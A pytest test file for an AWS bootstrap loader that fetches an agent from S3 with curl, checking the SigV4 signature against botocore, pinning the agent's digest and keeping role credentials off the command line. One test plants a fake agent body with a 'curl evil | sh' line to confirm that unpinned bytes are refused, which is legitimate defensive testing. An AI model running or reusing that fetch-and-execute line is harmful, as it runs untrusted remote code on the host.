"""The AWS loader (bootstrap/loader.py) as the user data ships it: a real process, curl signing its S3 GET.

* its SigV4 signature is the one botocore's S3 signer computes for the same request
  (captured on loopback), so S3 accepts it without a cloud to ask;
* against moto's S3 through the SigV4-checking front it fetches the agent, refuses other
  bytes, skips the fetch when the agent is in place, retries within its deadline;
* the role's keys never reach a command line.
"""

from __future__ import annotations

import hashlib
import http.server
import shutil
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from doubles.aws import AwsEnv
from doubles.imds import ImdsDouble

from bootstrap.cloud_config import AgentObject, agent_bytes, agent_key, loader_file

BASE_PYTHON = getattr(sys, "_base_executable", sys.executable)
EMPTY_SHA256 = hashlib.sha256(b"").hexdigest()
SHIM = "#!/bin/sh\nprintf '%s\\n' \"$0 $*\" >> {log}\nexec {real} \"$@\"\n"


@pytest.fixture
def vm(tmp_path: Path) -> Path:
    """A VM root with a curl that records its argv."""
    (tmp_path / "bin").mkdir()
    shim = tmp_path / "bin" / "curl"
    shim.write_text(SHIM.format(log=tmp_path / "argv.log", real=shutil.which("curl", path="/usr/bin:/bin")))
    shim.chmod(0o755)
    return tmp_path


def run_loader(
    vm: Path, agent: AgentObject, s3_url: str, imds_url: str, **env: str
) -> subprocess.CompletedProcess[str]:
    loader = vm / "loader.py"
    loader.write_text(loader_file(agent))
    environment = {"PATH": f"{vm}/bin:/usr/bin:/bin", "GH_RUNNERS_IMDS_URL": imds_url, "GH_RUNNERS_S3_URL": s3_url,
                   "GH_RUNNERS_AGENT_PATH": str(vm / "opt" / "agent.py"), "GH_RUNNERS_RETRY_BASE": "0.02",
                   "GH_RUNNERS_LOADER_SECONDS": "1", **env}
    return subprocess.run([BASE_PYTHON, "-I", str(loader)], env=environment, capture_output=True, text=True,
                          timeout=60, check=False)


def digest_of(body: bytes) -> str:
    return hashlib.sha256(body).hexdigest()


# --- the signature, recomputed by botocore ----------------------------------------------------


class _Capture(http.server.BaseHTTPRequestHandler):
    seen: list[dict[str, Any]]

    def do_GET(self) -> None:
        self.seen.append({"path": self.path, "headers": {k.lower(): v for k, v in self.headers.items()}})
        self.send_response(403)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def capture() -> Iterator[tuple[str, list[dict[str, Any]]]]:
    seen: list[dict[str, Any]] = []
    handler = type("Handler", (_Capture,), {"seen": seen})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}", seen
    server.shutdown()
    server.server_close()


def test_the_loaders_signature_is_botocores_s3_signature(
    vm: Path, imds: ImdsDouble, capture: tuple[str, list[dict[str, Any]]]
) -> None:
    from botocore.auth import S3SigV4Auth
    from botocore.awsrequest import AWSRequest
    from botocore.credentials import Credentials

    url, seen = capture
    agent = AgentObject("agents-eu-west-3-1a2b3c4", agent_key("aws"), "eu-west-3", digest_of(agent_bytes("aws")))
    done = run_loader(vm, agent, url, imds.url)
    assert done.returncode == 1 and "HTTP 403" in done.stderr
    request = seen[0]
    headers = request["headers"]
    assert request["path"] == f"/{agent.bucket}/{agent.key}"
    # S3 requires x-amz-content-sha256 on every SigV4 request (curl 7.88 does not add it for s3 itself).
    assert headers["x-amz-content-sha256"] == EMPTY_SHA256
    keys = imds.credentials()
    assert headers["x-amz-security-token"] == keys["Token"]

    expected = AWSRequest(method="GET", url=f"{url}{request['path']}", headers={
        "X-Amz-Content-SHA256": EMPTY_SHA256, "X-Amz-Date": headers["x-amz-date"],
        "X-Amz-Security-Token": keys["Token"]})
    expected.context["timestamp"] = headers["x-amz-date"]
    signer = S3SigV4Auth(Credentials(keys["AccessKeyId"], keys["SecretAccessKey"], keys["Token"]), "s3", "eu-west-3")
    canonical = signer.canonical_request(expected)
    signature = signer.signature(signer.string_to_sign(expected, canonical), expected)
    scope = f"{headers['x-amz-date'][:8]}/eu-west-3/s3/aws4_request"
    assert headers["authorization"] == (
        f"AWS4-HMAC-SHA256 Credential={keys['AccessKeyId']}/{scope}, "
        f"SignedHeaders={signer.signed_headers(signer.headers_to_sign(expected))}, Signature={signature}")
    assert signer.signed_headers(signer.headers_to_sign(expected)) == \
        "host;x-amz-content-sha256;x-amz-date;x-amz-security-token"
    # Bounded: a refusal is retried until the deadline (1 s here), then the loader fails for systemd to restart.
    assert 1 < len(seen) < 20


def test_without_a_test_endpoint_the_loader_asks_s3_virtual_hosted_in_the_region(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Virtual-hosted style on the regional endpoint, `https://<bucket>.s3.<region>.amazonaws.com/<key>`:
    what S3 documents for every region, GovCloud's included
    (docs.aws.amazon.com/AmazonS3/latest/userguide/VirtualHosting.html,
    docs.aws.amazon.com/govcloud-us/latest/UserGuide/using-govcloud-endpoints.html). Auto-named buckets
    have no dots, so the wildcard certificate covers them."""
    import bootstrap.loader as loader

    monkeypatch.setattr(loader, "S3_URL", "")
    monkeypatch.setattr(loader, "OBJECT", {"bucket": "agents-us-gov-west-1-abc1234", "key": "agent/f00.py",
                                           "region": "us-gov-west-1", "sha256": ""})
    assert loader.object_url() == "https://agents-us-gov-west-1-abc1234.s3.us-gov-west-1.amazonaws.com/agent/f00.py"


# --- against moto's S3 through the SigV4-checking front ---------------------------------------


def test_the_loader_fetches_the_agent_from_s3_and_runs_nothing_else(vm: Path, aws: AwsEnv) -> None:
    aws.create_role(aws.imds.instance.role_name)
    body = agent_bytes("aws")
    bucket, key = aws.put_agent(body, agent_key("aws"))
    agent = AgentObject(bucket, key, aws.region, digest_of(body))
    done = run_loader(vm, agent, aws.endpoint_url, aws.imds.url)
    assert done.returncode == 0, done.stderr
    assert (vm / "opt" / "agent.py").read_bytes() == body
    assert oct((vm / "opt" / "agent.py").stat().st_mode & 0o777) == "0o644"
    fetched = [c for c in aws.front.calls if c.service == "s3"]
    assert [(c.action, c.params["Key"], c.status) for c in fetched] == [("GetObject", key, 200)]
    # The role's keys went to curl on stdin, never on its command line.
    keys = aws.imds.credentials()
    argv = (vm / "argv.log").read_text()
    assert "--aws-sigv4 aws:amz:us-east-1:s3" in argv
    assert keys["SecretAccessKey"] not in argv and keys["Token"] not in argv and keys["AccessKeyId"] not in argv

    # In place with its digest (a restart, a reboot): no fetch at all.
    again = run_loader(vm, agent, aws.endpoint_url, aws.imds.url)
    assert again.returncode == 0 and len([c for c in aws.front.calls if c.service == "s3"]) == 1


def test_other_bytes_than_the_pinned_ones_are_refused(vm: Path, aws: AwsEnv) -> None:
    aws.create_role(aws.imds.instance.role_name)
    bucket, key = aws.put_agent(b"import os; os.system('curl evil | sh')\n", agent_key("aws"))
    agent = AgentObject(bucket, key, aws.region, digest_of(agent_bytes("aws")))
    done = run_loader(vm, agent, aws.endpoint_url, aws.imds.url)
    assert done.returncode == 1 and "refused" in done.stderr
    assert not (vm / "opt" / "agent.py").exists() and not (vm / "opt" / "agent.py.part").exists()


def test_a_changed_agent_replaces_the_one_in_place(vm: Path, aws: AwsEnv) -> None:
    aws.create_role(aws.imds.instance.role_name)
    (vm / "opt").mkdir()
    (vm / "opt" / "agent.py").write_text("# the previous agent\n")
    body = agent_bytes("aws")
    bucket, key = aws.put_agent(body, agent_key("aws"))
    done = run_loader(vm, AgentObject(bucket, key, aws.region, digest_of(body)), aws.endpoint_url, aws.imds.url)
    assert done.returncode == 0, done.stderr
    assert (vm / "opt" / "agent.py").read_bytes() == body


def test_the_front_refuses_an_s3_request_without_the_payload_digest(aws: AwsEnv) -> None:
    """The double is as strict as S3: the header the loader adds is required."""
    keys = aws.imds.credentials()
    bucket, key = aws.put_agent(b"x", "agent/x.py")
    config = (f'user = "{keys["AccessKeyId"]}:{keys["SecretAccessKey"]}"\n'
              f'header = "X-Amz-Security-Token: {keys["Token"]}"\n')
    with aws.front.expect_violations() as seen:
        done = subprocess.run(["curl", "-sS", "--aws-sigv4", f"aws:amz:{aws.region}:s3", "-K", "-", "-w",
                               "\n%{http_code}", f"{aws.endpoint_url}/{bucket}/{key}"], input=config,
                              capture_output=True, text=True, timeout=30, check=False)
    assert done.stdout.rsplit("\n", 1)[-1] == "400" and "x-amz-content-sha256" in done.stdout
    assert seen, "recorded as a contract breach"
